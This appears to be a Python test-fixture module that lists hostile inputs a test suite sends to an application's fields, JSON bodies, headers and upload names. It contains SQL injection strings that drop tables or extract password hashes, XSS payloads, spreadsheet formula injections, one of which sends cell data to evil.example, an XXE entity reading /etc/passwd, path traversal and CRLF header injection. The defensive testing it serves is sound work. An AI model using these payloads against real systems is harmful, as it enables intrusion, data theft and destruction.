"""The hostile-input corpus: what test_hostile_input.py sends to every write endpoint and page form.

Each list holds (name, value) pairs; the name says what the payload tries, and names a failing case in
pytest's report. Text payloads go into every free-text field one at a time; whole-body payloads replace
a JSON body; header payloads ride along with an otherwise good request; file names go into an upload.
"""

from __future__ import annotations

# ------------------------------------------------------------------------------------------------ text
# Values for one text field. Each is either refused with a 4xx naming the problem, or stored exactly as
# sent and shown escaped (JSON, HTML) and neutralised (CSV).

SQL_INJECTION = [
    ("sql-quote-or", "' OR '1'='1"),
    ("sql-comment", "admin'--"),
    ("sql-stacked", "x'); DROP TABLE register.reviews; --"),
    ("sql-union", "' UNION SELECT email, bcrypt FROM register.users --"),
    ("sql-sleep", "1' AND pg_sleep(5) IS NULL AND '1'='1"),
    ("sql-dollar-quote", "$$; SELECT 1; $$"),
    ("sql-backslash", "\\'; SELECT 1; --"),
]

MARKUP = [
    ("html-script", "<script>alert('lr-xss')</script>"),
    ("html-img-onerror", '<img src=x onerror="alert(1)">'),
    ("html-attribute-break", '" autofocus onfocus="alert(1)'),
    ("html-single-quote-break", "' onmouseover='alert(1)"),
    ("html-close-textarea", "</textarea><script>alert(1)</script>"),
    ("html-svg", "<svg/onload=alert(1)>"),
    ("html-javascript-url", "javascript:alert(1)"),
    ("html-entities", "&lt;script&gt; &amp; &#60;b&#62;"),
    ("mustache-tags", "{{csrf}} {{{title}}} {{> layout}}"),
    ("html-comment-cdata", "<!-- x --><![CDATA[ y ]]>"),
]

# Spreadsheet formula injection: a cell starting with = + - @, or a tab or carriage return before one.
CSV_FORMULA = [
    ("csv-equals", "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"),
    ("csv-plus", "+1+cmd|' /C calc'!A0"),
    ("csv-minus", "-2+3+cmd|' /C calc'!A0"),
    ("csv-at", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("csv-tab", "\t=1+1"),
    ("csv-carriage-return", "\r=1+1"),
    ("csv-dde", "=DDE(\"cmd\";\"/C calc\";\"!A0\")A0"),
    ("csv-quote-comma", 'a,"b",c\r\nd'),
]

CONTROL_AND_UNICODE = [
    ("nul-escaped", "before\u0000after"),
    ("control-bell-escape", "bell\u0007 escape\u001b[31m red"),
    ("delete-char", "del\u007fete"),
    ("c1-control", "next\u0085line"),
    ("newlines-and-tabs", "line one\nline two\r\n\ttabbed"),
    ("bidi-override", "report\u202egnp.exe"),
    ("zero-width-and-bom", "zero\u200bwidth\ufeffbom"),
    ("emoji-and-combining", "Z\u0351\u0352\u0353algo 😀👩‍👧‍👦 日本語"),
    ("line-separator", "para\u2028graph\u2029end"),
    ("only-whitespace", " \t\n "),
    ("path-traversal-text", "../../../../etc/passwd"),
    ("format-string", "%s%s%n%x {0} ${7*7} #{7*7}"),
    ("crlf-header-injection", "x\r\nSet-Cookie: lr_session=stolen"),
]

TEXT = SQL_INJECTION + MARKUP + CSV_FORMULA + CONTROL_AND_UNICODE

# For passwords, which are never shown: what could break their handling rather than their display.
PASSWORD = SQL_INJECTION[:3] + [
    ("nul-escaped", "pass\u0000word-long-enough"),
    ("control-bell-escape", "pass\u0007word\u001b-long-enough"),
    ("emoji-and-combining", "Z\u0351algo 😀👩‍👧‍👦 日本語 long enough"),
    ("only-whitespace", " \t\n "),
]

# Lengths are set per field from the contract's maxLength (see test_hostile_input.text_values): one
# character over the limit (refused), and exactly the limit in characters outside the Basic Multilingual
# Plane (each two UTF-16 units and four UTF-8 bytes: stored, since limits count characters).
VERY_LONG = 1_000_000  # characters, for fields without a limit

# ----------------------------------------------------------------------------------------- whole body
# Replacements for a JSON body, as raw bytes with their Content-Type. Every one is refused with a 4xx.


def _nested(depth: int) -> bytes:
    return b'{"a":' + b"[" * depth + b"]" * depth + b"}"


BODIES: list[tuple[str, bytes, str]] = [
    ("truncated-json", b'{"name": "x', "application/json"),
    ("not-an-object-array", b"[]", "application/json"),
    ("not-an-object-string", b'"just a string"', "application/json"),
    ("not-an-object-null", b"null", "application/json"),
    ("empty-body", b"", "application/json"),
    ("invalid-utf8", b'{"name": "\xff\xfe\xc3\x28 bad"}', "application/json"),
    ("overlong-utf8-slash", b'{"name": "\xc0\xaf"}', "application/json"),
    ("raw-nul-in-string", b'{"name": "a\x00b"}', "application/json"),
    ("raw-nul-outside", b'{"name": "a"}\x00', "application/json"),
    ("lone-surrogate-escape", b'{"name": "\\ud800"}', "application/json"),
    ("bom-prefixed", b'\xef\xbb\xbf{"name": "x"}', "application/json"),
    ("huge-number", b'{"name": 1e999999}', "application/json"),
    ("deeply-nested-600", _nested(600), "application/json"),
    ("deeply-nested-100000", _nested(100_000), "application/json"),
    ("ten-megabytes", b'{"name": "' + b"A" * (10 * 1024 * 1024) + b'"}', "application/json"),
    ("json-as-text-plain", b'{"name": "x"}', "text/plain"),
    ("form-urlencoded", b"name=x&sector=health", "application/x-www-form-urlencoded"),
    ("xml", b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>', "application/xml"),
    ("content-type-garbage", b'{"name": "x"}', "application/json; charset=\x01\x02; boundary=../.."),
]

# ---------------------------------------------------------------------------------------------- headers
# Extra headers sent with a request; an overlong or malformed header is refused with a 4xx (some by the
# HTTP layer before the application, with an empty body), and a well-formed odd one is ignored or refused.

HEADERS: list[tuple[str, dict[str, str]]] = [
    ("overlong-header-200k", {"X-Padding": "a" * 200_000}),
    ("many-headers-3000", {f"X-Padding-{i}": "v" for i in range(3000)}),
    ("overlong-if-match", {"If-Match": '"' + "9" * 10_000 + '"'}),
    ("garbage-if-match", {"If-Match": "W/\"'; DROP TABLE x; --"}),
    ("overlong-request-id", {"X-Request-Id": "r" * 20_000}),
    ("hostile-request-id", {"X-Request-Id": "<script>alert(1)</script>' OR 1=1"}),
    ("overlong-idempotency-key", {"Idempotency-Key": "k" * 5_000}),
    ("hostile-idempotency-key", {"Idempotency-Key": "'; DROP TABLE register.evidence; --"}),
]

# -------------------------------------------------------------------------------------------- file names
# Names an uploaded file may carry. Each is refused with a 4xx, or stored as a plain name: no folder part,
# no control character, and shown escaped.

FILE_NAMES = [
    ("traversal-unix", "../../../../etc/passwd.pdf"),
    ("traversal-windows", "..\\..\\..\\Windows\\System32\\report.pdf"),
    ("absolute-unix", "/etc/cron.d/report.pdf"),
    ("traversal-encoded", "..%2F..%2Fetc%2Fpasswd.pdf"),
    ("dot-dot-only", "..\\.."),
    ("nul-in-name", "report.pdf\u0000.exe"),
    ("newline-in-name", "report\r\nContent-Type: text/html.pdf"),
    ("tab-and-escape", "re\tport\u001b[2J.pdf"),
    ("bidi-override", "report\u202efdp.exe.pdf"),
    ("html-in-name", "<script>alert(1)</script>.pdf"),
    ("quote-in-name", 'a"; filename="evil.html.pdf'),
    ("formula-in-name", "=cmd|' /C calc'!A0.pdf"),
    ("very-long-name", "a" * 300 + ".pdf"),
    ("windows-device", "CON.pdf"),
    ("only-extension", ".pdf"),
]
